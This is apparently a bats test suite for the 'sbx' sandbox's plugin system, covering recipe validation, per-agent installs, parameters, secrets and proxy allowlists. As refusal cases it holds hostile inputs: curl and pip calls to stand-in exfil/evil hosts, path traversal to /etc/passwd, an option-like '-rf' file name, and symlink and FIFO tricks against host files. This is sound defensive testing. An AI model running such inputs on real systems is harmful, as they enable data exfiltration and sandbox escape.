#!/usr/bin/env bats
# sbx-test: unprivileged
# sbx plugin (issue 17): recipes judged before anything is stored, the
# library, installs per agent (files, hash, secrets, dependencies), runs
# with parameters (PARAM_*, defaults, required, types) in the agent's
# sandbox with the recipe's network only, agent-authored recipes with
# restricted defaults, sbx tools --json checked against JSON Schema draft
# 2020-12 (python3-jsonschema), updates shown by sbx status, and the
# shipped recipes installed and run offline.
#
# Servers are loopback only: an HTTP API (python3) for the secret recipe,
# reached through sbx-proxy under a name the agent's `resolve` maps to
# 127.0.0.1, and (as root) the npm registry of the install tests.

load lib
load proxy
load install
bats_require_minimum_version 1.5.0

RECIPES=$BATS_TEST_DIRNAME/../../recipes

setup_file() { :; }
setup() {
	proxy_setup
	"$SBX" provision -q
}
teardown() { proxy_teardown; }

# A recipe file in the test's temp dir: recipe NAME JSON -> path.
recipe() {
	printf '%s\n' "$2" > "$TEST_ROOT/$1.json"
	printf '%s\n' "$TEST_ROOT/$1.json"
}

# The library's files (nothing else may appear after a refusal).
library() { find "$SBX_HOME/plugins" -mindepth 1 ! -name library.lock 2>/dev/null || true; }

TYPES_RECIPE='{"name": "Types", "description": "prints its parameters",
 "tools": [{"id": "show", "description": "env",
  "parameters": {"type": "object", "properties": {
   "s": {"type": "string"}, "i": {"type": "integer", "default": 7},
   "n": {"type": "number"}, "b": {"type": "boolean", "default": false},
   "a": {"type": "array"}, "o": {"type": "object"},
   "m": {"type": "string", "enum": ["x", "y"]}},
   "required": ["s"]},
  "run": "env | grep ^PARAM_ | LC_ALL=C sort; pwd"}]}'

# --- validation --------------------------------------------------------------

@test "every refusal before anything is stored: invalid_args, the field, a reason" {
	while IFS='|' read -r field reason json; do
		f=$(recipe bad "$json")
		run sbx plugin add --json "$f"
		echo "$field $reason: $output"
		status_is_kind
		[ "$(json_get "$output" .kind)" = invalid_args ]
		[ "$(json_get "$output" .field)" = "$field" ]
		[ "$(json_get "$output" .reason)" = "$reason" ]
	done <<'EOF'
name|missing|{"description":"d","tools":[{"id":"x","description":"d","run":"true"}]}
files[../escape]|traversal|{"name":"t","description":"d","files":{"../escape":"x"},"tools":[{"id":"x","description":"d","run":"true"}]}
files[/etc/passwd]|absolute_path|{"name":"t","description":"d","files":{"/etc/passwd":"x"},"tools":[{"id":"x","description":"d","run":"true"}]}
files[a\b]|backslash|{"name":"t","description":"d","files":{"a\\b":"x"},"tools":[{"id":"x","description":"d","run":"true"}]}
files[-rf]|option_like|{"name":"t","description":"d","files":{"-rf":"x"},"tools":[{"id":"x","description":"d","run":"true"}]}
tools[0].id|invalid_name|{"name":"t","description":"d","tools":[{"id":"Bad-Id","description":"d","run":"true"}]}
tools[0].parameters.properties.X|invalid_name|{"name":"t","description":"d","tools":[{"id":"x","description":"d","run":"true","parameters":{"properties":{"X":{"type":"string"}}}}]}
tools[0].run|host_not_declared|{"name":"t","description":"d","tools":[{"id":"x","description":"d","run":"curl -s https://exfil.example.net/"}]}
setup|host_not_declared|{"name":"t","description":"d","setup":"pip download https://evil.example.org/x.whl","dependencies":{"pip":["requests"]},"tools":[{"id":"x","description":"d","run":"true"}]}
dependencies.npm[0]|url_not_allowed|{"name":"t","description":"d","dependencies":{"npm":["git+https://x.example/y.git"]},"tools":[{"id":"x","description":"d","run":"true"}]}
permissions.network|invalid_network|{"name":"t","description":"d","permissions":{"network":"outbound"},"tools":[{"id":"x","description":"d","run":"true"}]}
secrets[0]|invalid_name|{"name":"t","description":"d","secrets":["not a name"],"tools":[{"id":"x","description":"d","run":"true"}]}
EOF
	# A file that is not UTF-8 text, from a directory source.
	mkdir -p "$TEST_ROOT/bin"
	printf '{"name":"t","description":"d","tools":[{"id":"x","description":"d","run":"true"}]}' \
	    > "$TEST_ROOT/bin/recipe.json"
	printf '\377\376binary' > "$TEST_ROOT/bin/blob"
	run sbx plugin add --json "$TEST_ROOT/bin"
	[ "$(json_get "$output" .field)" = "files[blob]" ]
	[ "$(json_get "$output" .reason)" = not_text ]
	[ -z "$(library)" ]
}

@test "a directory with a symlink or .. in files: refused, nothing read through it, nothing written" {
	mkdir -p "$TEST_ROOT/d/lib"
	printf '{"name":"linky","description":"d","tools":[{"id":"x","description":"d","run":"cat lib/secret"}]}' \
	    > "$TEST_ROOT/d/recipe.json"
	echo host-secret > "$TEST_ROOT/host-secret"
	ln -s "$TEST_ROOT/host-secret" "$TEST_ROOT/d/lib/secret"
	run sbx plugin add --json "$TEST_ROOT/d"
	echo "$output"
	status_is_kind
	[ "$(json_get "$output" .field)" = "files[lib/secret]" ]
	[ "$(json_get "$output" .reason)" = symlink ]
	[[ $output != *host-secret* ]]
	[ -z "$(library)" ]
	# `..` inline: refused; nothing appears outside the plugin directory
	# either (install never sees it).
	f=$(recipe dots '{"name":"dots","description":"d","files":{"a/../../../escape":"x"},"tools":[{"id":"x","description":"d","run":"true"}]}')
	run sbx plugin add --json "$f"
	[ "$(json_get "$output" .reason)" = traversal ]
	[ ! -e "$SBX_HOME/workspace/agents/escape" ] && [ ! -e "$SBX_HOME/workspace/escape" ]
	[ -z "$(library)" ]
}

@test "add, list, show, rm; an unknown key is kept in metadata with a warning" {
	f=$(recipe t "$(jq -c '. + {homepage: "https://example.com"}' <<<"$TYPES_RECIPE")")
	run sbx plugin add --json "$f"
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(json_get "$output" .result.id)" = types ]
	[[ "$(json_get "$output" '.warnings[0]')" == *homepage*metadata* ]]
	sha=$(json_get "$output" .result.sha256)
	[ "$sha" = "$(sha256sum "$SBX_HOME/plugins/types.json" | cut -d' ' -f1)" ]
	run sbx plugin list --json
	[ "$(json_get "$output" '.result.plugins[0].id')" = types ]
	# What the shell completions offer after `sbx plugin install`.
	[ "$(sbx --complete plugins)" = types ]
	[ "$(sbx --complete operands plugin install)" = @plugin ]
	[ "$(json_get "$output" '.result.plugins[0].created_by')" = person ]
	run sbx plugin show --json types
	[ "$(json_get "$output" .result.recipe.metadata.homepage)" = https://example.com ]
	run sbx plugin rm types
	[ "$status" -eq 0 ]
	run sbx plugin show --json types
	[ "$(json_get "$output" .kind)" = not_found ]
	[ "$status" -eq 1 ]
}

@test "add URL --sha256: the bytes must have that digest; without one, or with a file, refused" {
	mkdir -p "$TEST_ROOT/www"
	printf '%s\n' "$TYPES_RECIPE" > "$TEST_ROOT/www/types.json"
	sha=$(sha256sum "$TEST_ROOT/www/types.json" | cut -d' ' -f1)
	"$PY" -u -c '
import functools, http.server, sys
h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
h.log_message = lambda *a: None
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), h)
print(s.server_address[1], flush=True)
s.serve_forever()' "$TEST_ROOT/www" > "$TEST_ROOT/www.port" 2>"$TEST_ROOT/www.err" 3>&- &
	SERVER_PIDS+=("$!")
	port=$(wait_line "$TEST_ROOT/www.port")
	url=http://127.0.0.1:$port/types.json
	run sbx plugin add --json "$url"
	[ "$(json_get "$output" .reason)" = missing_sha256 ]
	run sbx plugin add --json --sha256 "$(printf '%064d' 0)" "$url"
	echo "$output"
	[ "$(json_get "$output" .reason)" = integrity_check_failed ]
	[ -z "$(library)" ]
	run sbx plugin add --json --sha256 "$sha" "$TEST_ROOT/www/types.json"
	[ "$(json_get "$output" .reason)" = sha256_without_url ]
	run sbx plugin add --json --sha256 "$sha" "$url"
	echo "$output"
	[ "$(json_get "$output" .result.id)" = types ]
	# https to a name is the rule; plain http only to a loopback address.
	run sbx plugin add --json --sha256 "$sha" "http://example.com/x.json"
	[ "$(json_get "$output" .reason)" = insecure_http ]
}

# --- install, run ---------------------------------------------------------------

@test "a tool run with each parameter type; defaults fill gaps; required and wrong types refused" {
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	sbx plugin install -q types
	run sbx plugin run --json --param 's=a b' --param n=2.5 --param b=true \
	    --param 'a=[1,"x"]' --param 'o={"k":1}' --param m=y types show
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(json_get "$output" .tool)" = plugin.types.show ]
	[ "$(json_get "$output" .result.network)" = none ]
	[ "$(json_get "$output" .result.stdout)" = 'PARAM_A=[1,"x"]
PARAM_B=true
PARAM_I=7
PARAM_M=y
PARAM_N=2.5
PARAM_O={"k":1}
PARAM_S=a b
/workspace/agents/default/.sbx/plugins/types' ]
	run sbx plugin run --json types show
	status_is_kind
	[ "$(json_get "$output" .reason)" = missing_parameter ]
	[ "$(json_get "$output" .field)" = parameters.s ]
	[ "$(json_get "$output" .tool)" = plugin.types.show ]
	run sbx plugin run --json --param s=x --param i=1.5 types show
	[ "$(json_get "$output" .reason)" = invalid_type ]
	run sbx plugin run --json --param s=x --param m=z types show
	[ "$(json_get "$output" .reason)" = not_in_enum ]
	run sbx plugin run --json --param s=x --param nope=1 types show
	[ "$(json_get "$output" .reason)" = unknown_parameter ]
	run sbx plugin run --json types nosuch
	[ "$(json_get "$output" .reason)" = tool_not_found ]
	# Transparent mode: the tool's output and exit status.
	run sbx plugin run --param s=q types show
	[ "$status" -eq 0 ]
	[[ $output == *"PARAM_S=q"* ]]
}

@test "a tool that goes quiet: the idle timeout (--timeout) ends it, a timeout envelope" {
	f=$(recipe q '{"name":"quiet","description":"d","tools":[{"id":"wait","description":"d","run":"sleep 30"}]}')
	sbx plugin add -q "$f"
	sbx plugin install -q quiet
	run sbx plugin run --json --timeout 1 quiet wait
	echo "$output"
	# The status of sbx exec: 124, as timeout(1).
	[ "$status" -eq 124 ]
	[ "$(json_get "$output" .kind)" = timeout ]
	[ "$(json_get "$output" .tool)" = plugin.quiet.wait ]
}

@test "install into two agents, uninstall from one; plugins.json has the agreed shape" {
	"$SBX" provision -q --agent bob
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	sbx plugin install -q types
	sbx plugin install -q --agent bob types
	sha=$(sha256sum "$SBX_HOME/plugins/types.json" | cut -d' ' -f1)
	for a in default bob; do
		jq -e --arg sha "$sha" '.version == 1 and (.plugins | length) == 1 and
		    (.plugins[0] | .id == "types" and .sha256 == $sha and
		     .secrets == [] and .created_by == "person" and
		     (.installed_at | test("^[0-9-]+T[0-9:]+Z$")) and
		     (keys == ["created_by","id","installed_at","secrets","sha256","version"]))' \
		    "$SBX_HOME/agents/$a/plugins.json"
	done
	run sbx plugin uninstall --json --agent bob types
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(jq '.plugins | length' "$SBX_HOME/agents/bob/plugins.json")" -eq 0 ]
	[ ! -e "$SBX_HOME/workspace/agents/bob/.sbx/plugins/types" ]
	[ ! -e "$SBX_HOME/agents/bob/plugins/types.json" ]
	run sbx plugin run --json --agent bob --param s=x types show
	[ "$(json_get "$output" .reason)" = plugin_not_installed ]
	run sbx plugin run --json --param s=x types show
	[ "$(json_get "$output" .ok)" = true ]
	run sbx plugin uninstall --json --agent bob types
	[ "$(json_get "$output" .kind)" = not_found ]
}

@test "install never follows what the agent planted in its home: a link at the plugin directory or at .sbx" {
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	mkdir -p "$TEST_ROOT/victim" "$WS/.sbx/plugins"
	echo keep > "$TEST_ROOT/victim/file"
	chmod -R a+rwX "$TEST_ROOT/victim"
	# The plugin's own directory is a link to a host directory: removed
	# (the link, not its target) and made afresh.
	ln -s "$TEST_ROOT/victim" "$WS/.sbx/plugins/types"
	sbx plugin install -q types
	[ -d "$WS/.sbx/plugins/types" ] && [ ! -L "$WS/.sbx/plugins/types" ]
	[ "$(ls "$TEST_ROOT/victim")" = file ] && [ "$(cat "$TEST_ROOT/victim/file")" = keep ]
	sbx plugin uninstall -q types
	# .sbx itself a link: refused, nothing written through it.
	rm -rf "$WS/.sbx"
	ln -s "$TEST_ROOT/victim" "$WS/.sbx"
	run sbx plugin install --json types
	echo "$output"
	[ "$(json_get "$output" .ok)" = false ]
	[ "$(ls "$TEST_ROOT/victim")" = file ]
	[ "$(jq '.plugins | length' "$SBX_HOME/agents/default/plugins.json")" -eq 0 ]
}

@test "a changed recipe in the library: an update in sbx status, never applied to runs" {
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	sbx plugin install -q types
	run sbx status --json
	[ "$(json_get "$output" '.result.plugin_updates | length')" -eq 0 ]
	f=$(recipe t "$(jq -c '.tools[0].run = "echo v2"' <<<"$TYPES_RECIPE")")
	run sbx plugin add --json "$f"
	[ "$(json_get "$output" .result.replaced)" = true ]
	run sbx status --json
	[ "$(json_get "$output" '.result.plugin_updates[0].id')" = types ]
	run sbx status
	[[ $output == *"plugin update available: types"* ]]
	# The run is still the installed version.
	run sbx plugin run --json --param s=x types show
	[[ "$(json_get "$output" .result.stdout)" == *PARAM_S=x* ]]
	sbx plugin install -q types
	run sbx plugin run --json --param s=x types show
	[ "$(json_get "$output" .result.stdout)" = v2 ]
	run sbx status --json
	[ "$(json_get "$output" '.result.plugin_updates | length')" -eq 0 ]
}

@test "setup runs once at install, in the plugin directory, as the agent; a failing one installs nothing" {
	f=$(recipe s '{"name":"withsetup","description":"d","setup":"echo built > made.txt; id -u > uid.txt",
	    "files":{"run.sh":"#!/bin/sh\ncat made.txt\n"},
	    "tools":[{"id":"x","description":"d","run":"./run.sh"}]}')
	sbx plugin add -q "$f"
	sbx plugin install -q withsetup
	[ "$(cat "$WS/.sbx/plugins/withsetup/uid.txt")" = "$(sandbox_uid)" ]
	[ "$(stat -c %a "$WS/.sbx/plugins/withsetup/run.sh")" = 755 ]
	run sbx plugin run --json withsetup x
	[ "$(json_get "$output" .result.stdout)" = built ]
	f=$(recipe s '{"name":"badsetup","description":"d","setup":"exit 3",
	    "tools":[{"id":"x","description":"d","run":"true"}]}')
	sbx plugin add -q "$f"
	run sbx plugin install --json badsetup
	echo "$output"
	[ "$(json_get "$output" .reason)" = setup_failed ]
	[ "$(json_get "$output" .result.exit_code)" = 3 ]
	[ ! -e "$WS/.sbx/plugins/badsetup" ]
	[ "$(jq '[.plugins[].id]' -c "$SBX_HOME/agents/default/plugins.json")" = '["withsetup"]' ]
	# A new version whose setup fails: no half install is left, and the
	# record does not name what cannot run.
	f=$(recipe s '{"name":"withsetup","description":"d","setup":"exit 4",
	    "tools":[{"id":"x","description":"d","run":"true"}]}')
	sbx plugin add -q "$f"
	run sbx plugin install --json withsetup
	[ "$(json_get "$output" .reason)" = setup_failed ]
	[ ! -e "$WS/.sbx/plugins/withsetup" ]
	[ ! -e "$SBX_HOME/agents/default/plugins/withsetup.json" ]
	[ "$(jq '.plugins | length' "$SBX_HOME/agents/default/plugins.json")" -eq 0 ]
}

# --- agent-authored -----------------------------------------------------------------

@test "register: an agent's recipe asking for outbound gets none, with a warning; created_by agent; a person removes it" {
	mkdir -p "$WS/mytool"
	printf '%s' '{"name":"mytool","description":"mine","permissions":{"network":"outbound","inference":true},
	    "tools":[{"id":"hi","description":"d","run":"echo hi from agent"}]}' > "$WS/mytool/recipe.json"
	run sbx plugin register --json /workspace/agents/default/mytool
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(json_get "$output" .result.network)" = none ]
	[ "$(json_get "$output" .result.created_by)" = agent ]
	[[ "$(json_get "$output" '.warnings | join(" ")')" == *"network set to none"* ]]
	[ "$(jq -r .permissions.inference "$SBX_HOME/plugins/mytool.json")" = false ]
	[ "$(jq -r .metadata.agent "$SBX_HOME/plugins/mytool.json")" = default ]
	run sbx plugin list --json
	[ "$(json_get "$output" '.result.plugins[] | select(.id == "mytool") | .created_by')" = agent ]
	sbx plugin install -q mytool
	[ "$(jq -r '.plugins[0].created_by' "$SBX_HOME/agents/default/plugins.json")" = agent ]
	run sbx plugin run --json mytool hi
	[ "$(json_get "$output" .result.stdout)" = "hi from agent" ]
	sbx plugin rm -q mytool
	[ ! -e "$SBX_HOME/plugins/mytool.json" ]
}

@test "register: never replaces a person's recipe; never reads outside the home or through a link" {
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	mkdir -p "$WS/evil"
	printf '%s' '{"name":"types","description":"mine","tools":[{"id":"x","description":"d","run":"true"}]}' \
	    > "$WS/evil/recipe.json"
	before=$(sha256sum "$SBX_HOME/plugins/types.json")
	run sbx plugin register --json evil
	echo "$output"
	[ "$(json_get "$output" .reason)" = id_taken ]
	[ "$(sha256sum "$SBX_HOME/plugins/types.json")" = "$before" ]
	run sbx plugin register --json "$TEST_ROOT"
	[ "$(json_get "$output" .reason)" = outside_home ]
	ln -s "$TEST_ROOT" "$WS/link"
	run sbx plugin register --json link
	echo "$output"
	[ "$(json_get "$output" .ok)" = false ]
	run sbx plugin register --json ../bob
	[ "$(json_get "$output" .ok)" = false ]
	# A FIFO where the recipe or a file should be: refused at once,
	# never waited on.
	mkdir -p "$WS/fifo" "$WS/fifo2"
	mkfifo "$WS/fifo/recipe.json"
	run timeout 10 "$SBX" plugin register --json fifo
	echo "$output"
	[ "$status" -ne 124 ] && [ "$(json_get "$output" .ok)" = false ]
	cp "$WS/evil/recipe.json" "$WS/fifo2/recipe.json"
	sed -i 's/"types"/"fifo2"/' "$WS/fifo2/recipe.json"
	mkfifo "$WS/fifo2/pipe"
	run timeout 10 "$SBX" plugin register --json fifo2
	echo "$output"
	[ "$(json_get "$output" .reason)" = not_regular ]
}

# --- sbx tools ----------------------------------------------------------------------

@test "sbx tools --json: built-in and plugin tools, each inputSchema valid JSON Schema draft 2020-12" {
	"$PY" -c 'import jsonschema' 2>/dev/null ||
	    skip "python3-jsonschema is not installed (scripts/deps.sh)"
	f=$(recipe t "$TYPES_RECIPE")
	sbx plugin add -q "$f"
	sbx plugin install -q types
	sbx plugin add -q "$RECIPES/code-search.json"
	sbx plugin install -q code-search
	run sbx tools --json
	echo "$output" | head -c 2000
	[ "$(json_get "$output" .tool)" = tools ]
	json_get "$output" '.result.tools[].name' | grep -qx plugin-types-show
	json_get "$output" '.result.tools[].name' | grep -qx plugin-code-search-search
	json_get "$output" '.result.tools[].id' | grep -qx plugin.code-search.search
	[ "$(json_get "$output" '[.result.tools[] | select(.source == "builtin")] | length')" -gt 0 ]
	printf '%s' "$output" > "$TEST_ROOT/tools.json"
	run "$PY" - "$TEST_ROOT/tools.json" <<'EOF'
import json, sys
from jsonschema import Draft202012Validator, ValidationError
env = json.load(open(sys.argv[1]))
names = set()
for t in env["result"]["tools"]:
    assert t["name"] not in names, t["name"]
    names.add(t["name"])
    Draft202012Validator.check_schema(t["inputSchema"])
    assert t["inputSchema"]["type"] == "object"
s = [t for t in env["result"]["tools"] if t["name"] == "plugin-types-show"][0]
assert s["id"] == s["title"] == "plugin.types.show", s
v = Draft202012Validator(s["inputSchema"])
v.validate({"s": "x", "i": 3, "b": True, "a": [1], "o": {}, "m": "x"})
for bad in ({}, {"s": 1}, {"s": "x", "m": "z"}, {"s": "x", "extra": 1}):
    try:
        v.validate(bad)
    except ValidationError:
        continue
    raise SystemExit("accepted %r" % (bad,))
print("schemas ok", len(names))
EOF
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == "schemas ok"* ]]
	# The man page's alias: sbx tools is sbx plugin tools.
	run sbx plugin tools --json
	[ "$(json_get "$output" '.result.tools | length')" -eq "$(jq '.result.tools | length' "$TEST_ROOT/tools.json")" ]
}

# --- the shipped recipes, offline -----------------------------------------------------

@test "shipped: recipes/recipe.schema.json is a draft 2020-12 schema every shipped recipe meets" {
	"$PY" -c 'import jsonschema' 2>/dev/null ||
	    skip "python3-jsonschema is not installed (scripts/deps.sh)"
	run "$PY" - "$RECIPES" <<'EOF'
import glob, json, os, sys
from jsonschema import Draft202012Validator
d = sys.argv[1]
schema = json.load(open(os.path.join(d, "recipe.schema.json")))
Draft202012Validator.check_schema(schema)
v = Draft202012Validator(schema)
n = 0
for f in sorted(glob.glob(os.path.join(d, "*.json"))):
    if f.endswith("recipe.schema.json"):
        continue
    v.validate(json.load(open(f)))
    n += 1
print("recipes", n)
EOF
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$output" = "recipes 5" ]
	for f in "$RECIPES"/*.json; do
		[ "$f" = "$RECIPES/recipe.schema.json" ] && continue
		run sbx plugin add --json "$f"
		[ "$(json_get "$output" .ok)" = true ]
		[ "$(json_get "$output" '.warnings // [] | length')" -eq 0 ]
	done
}

@test "shipped: code-search (ripgrep) with glob, context and max_results" {
	command -v rg >/dev/null 2>&1 || skip "ripgrep is not installed"
	sbx plugin add -q "$RECIPES/code-search.json"
	sbx plugin install -q code-search
	mkdir -p "$WS/src"
	printf 'one\nneedle here\nthree\n' > "$WS/src/a.c"
	printf 'needle too\n' > "$WS/src/b.txt"
	printf 'needle 1\nneedle 2\nneedle 3\n' > "$WS/src/c.c"
	run sbx plugin run --json --param pattern=needle --param glob='*.c' \
	    --param context=1 code-search search
	echo "$output"
	[ "$(json_get "$output" .result.exit_code)" = 0 ]
	out=$(json_get "$output" .result.stdout)
	[[ $out == *"src/a.c:2:needle here"* && $out == *"src/a.c-1-one"* ]]
	[[ $out != *b.txt* ]]
	run sbx plugin run --json --param pattern=needle --param max_results=2 \
	    --param path=src/c.c code-search search
	[ "$(json_get "$output" .result.stdout)" = 'src/c.c:1:needle 1
src/c.c:2:needle 2' ]
}

@test "shipped: json-query (jq) over a file in the home; a filter that looks like an option is a filter" {
	sbx plugin add -q "$RECIPES/json-query.json"
	sbx plugin install -q json-query
	printf '{"items":[{"name":"a","n":1},{"name":"b","n":2}]}' > "$WS/data.json"
	run sbx plugin run --json --param file=data.json \
	    --param 'filter=[.items[].name] | join(",")' --param raw=true json-query query
	echo "$output"
	[ "$(json_get "$output" .result.stdout)" = "a,b" ]
	run sbx plugin run --json --param file=data.json --param 'filter=-1' json-query query
	[ "$(json_get "$output" .result.stdout)" = "-1" ]
	run sbx plugin run --json --param file=nope.json json-query query
	[ "$(json_get "$output" .result.exit_code)" != 0 ]
}

@test "shipped: py-summary (python3 standard library) summarises a CSV" {
	sbx plugin add -q "$RECIPES/py-summary.json"
	sbx plugin install -q py-summary
	printf 'city;pop\nOslo;700\nBergen;290\nOslo;700\n' > "$WS/t.csv"
	run sbx plugin run --json --param file=t.csv --param 'delimiter=;' py-summary summarize
	echo "$output"
	s=$(json_get "$output" .result.stdout)
	[ "$(jq -c '[.rows, .columns[0].type, .columns[0].top[0], .columns[1].mean, .columns[1].max]' <<<"$s")" = \
	    '[3,"text",["Oslo",2],563.333333,700]' ]
	run sbx plugin run --json --param file=t.csv --param 'delimiter=:' py-summary summarize
	[ "$(json_get "$output" .reason)" = not_in_enum ]
}

# An HTTP API on 127.0.0.1 that answers every GET with what it was sent
# (path and Authorization header), as JSON.
API_PY='
import http.server, json, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = json.dumps({"path": self.path,
            "auth": self.headers.get("Authorization", "")}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
'

@test "shipped: http-api needs its secret at install (the fix named), gets it at run (scrubbed), reaches its host only" {
	[ -x "$PY" ] || skip "python3 is not installed"
	"$PY" -u -c "$API_PY" > "$TEST_ROOT/api.port" 2> "$TEST_ROOT/api.err" 3>&- &
	SERVER_PIDS+=("$!")
	port=$(wait_line "$TEST_ROOT/api.port")
	mkdir -p "$SBX_HOME/config/agents"
	# The agent itself may reach other.example.com; the plugin, which
	# declares only api.example.com, may not (exactly its names).
	jq -n --argjson p "$port" '{allow_private: true, allowed_ports: [80, 443, $p],
	    allowed_domains: ["other.example.com"],
	    resolve: {"api.example.com": "127.0.0.1", "other.example.com": "127.0.0.1"}}' \
	    > "$SBX_HOME/config/agents/default.json"
	sbx plugin add -q "$RECIPES/http-api.json"
	run sbx plugin install --json http-api
	echo "$output"
	[ "$(json_get "$output" .reason)" = secret_missing ]
	[ "$(json_get "$output" .hint)" = "sbx secret set API_TOKEN --agent default" ]
	[ ! -e "$WS/.sbx/plugins/http-api" ]
	printf 'tok-%s' "s3cr3tvalue123" | "$SBX" secret set API_TOKEN -q
	printf 'other-secret-value' | "$SBX" secret set UNRELATED -q
	sbx plugin install -q http-api
	[ "$(jq -c '.plugins[0].secrets' "$SBX_HOME/agents/default/plugins.json")" = '["API_TOKEN"]' ]
	run sbx plugin run --json --param path=/v1/items \
	    --param "base=http://api.example.com:$port" http-api get
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(json_get "$output" .result.network)" = proxy ]
	body=$(json_get "$output" .result.stdout)
	[ "$(jq -r .path <<<"$body")" = /v1/items ]
	# The token reached the API, and never the envelope.
	[[ "$(jq -r .auth <<<"$body")" == "Bearer "* ]]
	[[ $output != *s3cr3tvalue123* ]]
	# Only the declared secrets: another of the agent's is not there.
	f=$(recipe peek '{"name":"peek","description":"d","secrets":["API_TOKEN"],
	    "tools":[{"id":"x","description":"d","run":"env | cut -d= -f1 | grep -x -e API_TOKEN -e UNRELATED"}]}')
	sbx plugin add -q "$f"
	sbx plugin install -q peek
	run sbx plugin run --json peek x
	[ "$(json_get "$output" .result.stdout)" = API_TOKEN ]
	# An undeclared host: refused by the proxy, the violation in the
	# envelope.
	run sbx plugin run --json --param path=/x \
	    --param "base=http://other.example.com:$port" http-api get
	echo "$output"
	[ "$(json_get "$output" .result.exit_code)" = 1 ]
	[ "$(jc "$output" '[.result.violations[] | [.host, .reason]]')" = '[["other.example.com","not_allowlisted"]]' ]
	# ... though the agent's own runs reach it: the plugin's names
	# replaced the agent's allowlist, they were not added to it.
	run sbx exec --json --network proxy -- python3 -c "import os, urllib.request as u; print(u.urlopen('http://other.example.com:$port/y').status)"
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(json_get "$output" .result.stdout)" = 200 ]
}

@test "shipped: slugify installs its npm dependency from the local registry and runs offline" {
	need_install_tools
	install_world "" default
	# A stand-in for the npm package slugify, served by the loopback
	# registry (module and packument as install.bash makes them).
	d=$REG/tarballs
	mkdir -p "$d/package"
	printf '{"name":"slugify","version":"1.6.6","main":"index.js"}\n' > "$d/package/package.json"
	printf 'module.exports = (s, o) => { s = s.trim().replace(/[^A-Za-z0-9]+/g, "-"); return o && o.lower ? s.toLowerCase() : s; };\n' \
	    > "$d/package/index.js"
	tar -czf "$d/slugify-1.6.6.tgz" -C "$d" package
	rm -rf "$d/package"
	"$PY" - "$REG" "$REG_PORT" <<'EOF'
import base64, hashlib, json, sys
reg, port = sys.argv[1], sys.argv[2]
d = open(reg + "/tarballs/slugify-1.6.6.tgz", "rb").read()
v = {"name": "slugify", "version": "1.6.6",
     "dist": {"tarball": "http://npm.sbx.test:%s/tarballs/slugify-1.6.6.tgz" % port,
              "shasum": hashlib.sha1(d).hexdigest(),
              "integrity": "sha512-" + base64.b64encode(hashlib.sha512(d).digest()).decode()}}
json.dump({"name": "slugify", "dist-tags": {"latest": "1.6.6"},
           "versions": {"1.6.6": v}}, open(reg + "/slugify", "w"))
EOF
	chmod -R a+rX "$REG"
	sbx plugin add -q "$RECIPES/slugify.json"
	run sbx plugin install --json slugify
	echo "$output"
	[ "$(json_get "$output" .ok)" = true ]
	[ "$(jq -c .npm "$SBX_HOME/agents/default/installed-packages.json")" = '["slugify"]' ]
	run sbx plugin run --json --param 'text=Hello Plugin World' slugify slug
	echo "$output"
	[ "$(json_get "$output" .result.stdout)" = hello-plugin-world ]
	run sbx plugin run --json --param 'text=Keep Case' --param lower=false slugify slug
	[ "$(json_get "$output" .result.stdout)" = Keep-Case ]
}
